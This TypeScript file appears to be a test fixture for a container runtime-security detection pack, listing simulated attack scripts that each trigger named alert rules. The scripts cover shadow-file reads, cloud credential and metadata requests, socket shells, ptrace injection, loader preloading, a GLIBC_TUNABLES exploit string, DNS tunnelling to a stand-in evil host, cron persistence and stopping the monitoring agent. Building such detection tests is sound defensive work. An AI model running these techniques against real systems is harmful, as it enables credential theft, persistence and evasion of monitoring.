// SPDX-License-Identifier: Apache-2.0
// Attack scripts for the default pack: each is run in a Debian container of the lab by a shell, and raises
// the alerts it names and no others. Together they raise every rule of the pack but those of NOT_HERE.
export interface Attack {
  /** What the attacker does. */
  readonly title: string;
  readonly script: string;
  readonly rules: readonly string[];
  /**
   * Where Docker's seccomp profile refuses the call itself, nothing happens and nothing is seen: these run
   * without it.
   */
  readonly isUnconfined?: boolean;
  /** With every capability, so that setuid programs gain something. */
  readonly isPrivileged?: boolean;
  /** Parameters that are set for it: an hour of learning is no time for a test. */
  readonly parameters?: readonly { readonly policy: string; readonly from: string; readonly to: string }[];
}

/** An address outside, which exists in the task's network alone (RFC 5737). */
export const OUTSIDE = "203.0.113.53";

const python = (...lines: string[]) => `python3 -c '${lines.join("\n")}'`;
const connected = (...ports: number[]) =>
  python(
    "import socket",
    `for port in ${JSON.stringify(ports)}:`,
    `  s = socket.create_server(("${OUTSIDE}", port))`,
    `  socket.create_connection(("${OUTSIDE}", port))`,
  );

export const ATTACKS: readonly Attack[] = [
  {
    title: "asks for the task's credentials",
    script: python("import socket", 'socket.create_connection(("169.254.170.2", 80))'),
    rules: ["Task credentials requested"],
  },
  {
    title: "sends a datagram to the credentials' address",
    script: python(
      "import socket",
      'socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("169.254.170.2", 80))',
    ),
    rules: ["Task credentials requested without a connection"],
  },
  {
    title: "looks for an instance's metadata",
    script: python("import socket", 'socket.socket().connect_ex(("169.254.169.254", 80))'),
    rules: ["Instance metadata requested"],
  },
  {
    title: "sends a datagram to the metadata's address",
    script: python(
      "import socket",
      "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
      'try: s.sendto(b"x", ("169.254.169.254", 80))',
      "except OSError: pass",
    ),
    rules: ["Instance metadata requested without a connection"],
  },
  { title: "reads the shadow file", script: "cat /etc/shadow", rules: ["Sensitive file read"] },
  {
    title: "is refused the shadow file",
    script: "setpriv --reuid 1000 --regid 1000 --clear-groups cat /etc/shadow 2>/dev/null; true",
    rules: ["Sensitive file refused"],
  },
  {
    title: "gives a shell a connection",
    script: python(
      "import os, socket",
      's = socket.create_server(("127.0.0.1", 4001))',
      "if os.fork() == 0:",
      "  s.accept(); os._exit(0)",
      'c = socket.create_connection(("127.0.0.1", 4001))',
      "os.dup2(c.fileno(), 0)",
      'os.execv("/bin/sh", ["sh", "-c", "exit 0"])',
    ),
    rules: ["Shell on a socket"],
  },
  {
    title: "runs what was not in the image",
    script: "cp /usr/bin/true /tmp/x; /tmp/x",
    rules: ["Program not in the image"],
  },
  {
    title: "makes a server run a shell",
    // The client is no relative of the server: its own child would be taken for a test of itself.
    script: [
      `${python("import socket, time", 'while socket.socket().connect_ex(("127.0.0.1", 4002)): time.sleep(0.01)')} &`,
      python(
        "import socket, subprocess",
        's = socket.create_server(("127.0.0.1", 4002))',
        "s.accept()",
        'subprocess.run(["/bin/sh", "-c", "exit 0"])',
      ),
    ].join("\n"),
    rules: ["Shell spawned by a server"],
  },
  {
    title: "makes a server look around without a shell",
    script: [
      `${python("import socket, time", 'while socket.socket().connect_ex(("127.0.0.1", 4003)): time.sleep(0.01)')} &`,
      python(
        "import socket, subprocess",
        's = socket.create_server(("127.0.0.1", 4003))',
        "s.accept()",
        'subprocess.run(["/usr/bin/id"])',
      ),
    ].join("\n"),
    rules: ["Tool run by a server"],
  },
  { title: "mines", script: "/usr/bin/echo -o stratum+tcp://pool.example:3333", rules: ["Crypto miner started"] },
  { title: "connects to a pool", script: connected(3333), rules: ["Connection to a mining pool's port"] },
  {
    title: "runs from memory",
    script: python(
      "import os",
      'fd = os.memfd_create("x")',
      'os.write(fd, open("/usr/bin/true", "rb").read())',
      'os.execv(f"/proc/self/fd/{fd}", ["x"])',
    ),
    rules: ["Program executed from memory"],
  },
  {
    title: "downloads and runs",
    script: [
      python(
        "import os, socket",
        's = socket.create_server(("127.0.0.1", 4003))',
        'socket.create_connection(("127.0.0.1", 4003))',
        'open("/tmp/y", "wb").write(open("/usr/bin/true", "rb").read())',
        'os.chmod("/tmp/y", 0o755)',
      ),
      "/tmp/y; true",
    ].join("\n"),
    rules: ["Downloaded program executed", "Program not in the image"],
  },
  {
    title: "has a terminal",
    script: python("import pty", 'pty.spawn(["/bin/sh", "-c", "exit 0"])'),
    rules: ["Shell in a terminal"],
  },
  {
    title: "installs a package",
    script: "apt-get install -y nothing-of-that-name 2>/dev/null; true",
    rules: ["Package installed at run time"],
  },
  {
    title: "attaches to another process",
    script: python(
      "import ctypes, os, time",
      "child = os.fork()",
      "if child == 0:",
      "  time.sleep(5); os._exit(0)",
      "ctypes.CDLL(None).ptrace(16, child, 0, 0)",
      "os.kill(child, 9)",
    ),
    rules: ["Process injection"],
  },
  {
    title: "preloads a library",
    script: "LD_PRELOAD=/tmp/none.so /usr/bin/true 2>/dev/null; true",
    rules: ["Library preloaded"],
  },
  {
    title: "tells the loader to preload",
    script: ": > /etc/ld.so.preload; rm /etc/ld.so.preload",
    rules: ["Loader file written"],
  },
  {
    title: "attacks the loader's tunables",
    script: "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A /usr/bin/true",
    rules: ["Loader attacked by GLIBC_TUNABLES"],
  },
  {
    title: "sets the setuid bit",
    script: "cp /usr/bin/true /tmp/s; chmod u+s /tmp/s",
    rules: ["Setuid bit set"],
  },
  {
    title: "becomes root by a program of his",
    script: [
      "cp /usr/bin/true /tmp/own; chmod 4755 /tmp/own",
      "setpriv --reuid 1000 --regid 1000 --clear-groups --inh-caps=-all /tmp/own",
    ].join("\n"),
    rules: ["Program not in the image", "Root by an unknown setuid program", "Setuid bit set"],
    isPrivileged: true,
  },
  {
    title: "pulls a lever of the kernel",
    script: "echo x 2>/dev/null > /proc/sys/kernel/core_pattern; true",
    rules: ["Kernel lever pulled"],
  },
  {
    title: "tries to mount",
    script: python("import ctypes", 'ctypes.CDLL(None).mount(b"none", b"/mnt", b"tmpfs", 0, None)'),
    rules: ["Escape attempt"],
    isUnconfined: true,
  },
  {
    title: "makes a user namespace",
    script: python("import ctypes", "ctypes.CDLL(None).unshare(0x10000000)"),
    rules: ["User namespace made"],
    isUnconfined: true,
  },
  {
    title: "takes another program's name",
    script: python("import ctypes", 'ctypes.CDLL(None).prctl(15, b"sshd", 0, 0, 0)'),
    rules: ["Process took another program's name"],
  },
  {
    title: "scans",
    script: python(
      "import socket",
      "for port in range(6000, 6040):",
      '  socket.socket().connect_ex(("127.0.0.1", port))',
    ),
    rules: ["Port scan"],
  },
  {
    title: "asks a foreign resolver",
    script: python("import socket", `socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(("${OUTSIDE}", 53))`),
    rules: ["DNS past the resolver"],
  },
  {
    title: "carries data out in queries",
    script: python(
      "import socket",
      "server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
      'server.bind(("127.0.0.1", 53))',
      "client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
      'client.connect(("127.0.0.1", 53))',
      "for n in range(700):",
      '  client.send(b"x" * 32); server.recv(64)',
    ),
    rules: ["DNS by the hundred"],
  },
  {
    title: "reports back, and tunnels, by names",
    script: python(
      "import socket",
      "client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
      'client.connect(("127.0.0.1", 53))',
      "def ask(*labels):",
      '  name = b"".join(bytes([len(one)]) + one for one in labels)',
      "  try:",
      '    client.send(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + name + b"\\0\\0\\1\\0\\1")',
      "  except ConnectionRefusedError:",
      "    pass",
      'ask(b"c0ffee", b"oast", b"fun")',
      "for n in range(100):",
      '  ask(b"%040d" % n, b"evil", b"example")',
    ),
    rules: ["Suspicious name looked up", "DNS names that carry data"],
  },
  {
    title: "connects to where nobody went before",
    script: connected(9001, 9002),
    rules: ["Egress to a new place"],
    parameters: [{ policy: "command-and-control/first-seen-egress", from: '"default": 60', to: '"default": 0' }],
  },
  { title: "reads Vedette's secret", script: "cat /vedette/secret", rules: ["Vedette's files touched"] },
  {
    title: "changes its user first",
    script: "setpriv --reuid 1000 --regid 1000 --clear-groups cat /vedette/secret",
    rules: ["Vedette's files touched"],
  },
  {
    title: "speaks to Vedette's host",
    script: python("import socket", 'socket.socket(socket.AF_UNIX).connect("/vedette/host.sock")'),
    rules: ["Vedette's socket used"],
  },
  { title: "stops the agent", script: "kill -STOP $PPID; true", rules: ["Agent attacked"] },
  {
    title: "unmaps the agent's page",
    script: python(
      "import ctypes",
      "unmap = ctypes.CDLL(None).munmap",
      "unmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]",
      "unmap(0x10000, 4096)",
    ),
    rules: ["Records tampered with"],
  },
  {
    title: "plants a cron job",
    script: "mkdir -p /etc/cron.d; echo x > /etc/cron.d/x",
    rules: ["Start-up file written"],
  },
  {
    title: "moves a cron job into place",
    script: "mkdir -p /etc/cron.d; echo x > /tmp/c; mv /tmp/c /etc/cron.d/y",
    rules: ["Start-up file moved into place"],
  },
];

const SEVERAL_TASKS = "it takes a pool of judges and several tasks; test/host/fleet/pack-facts.test.ts has them";
/** Rules that no script here can raise, and why. */
export const NOT_HERE: Readonly<Record<string, string>> = {
  "Several services contact one new address": SEVERAL_TASKS,
  "Credentials of one task in several": SEVERAL_TASKS,
  "Unknown program in several tasks": SEVERAL_TASKS,
  "Unrecorded open": "it takes a program that skips its records; test/attacks/unrecorded-open.test.ts has one",
  "Session from outside": "a session is no child of the workload; fargate-sessions.test.ts has one",
  "Session that cannot be captured": "likewise",
  "Call hidden from its record": "it takes two threads; test/attacks/changed-names.test.ts has them",
};
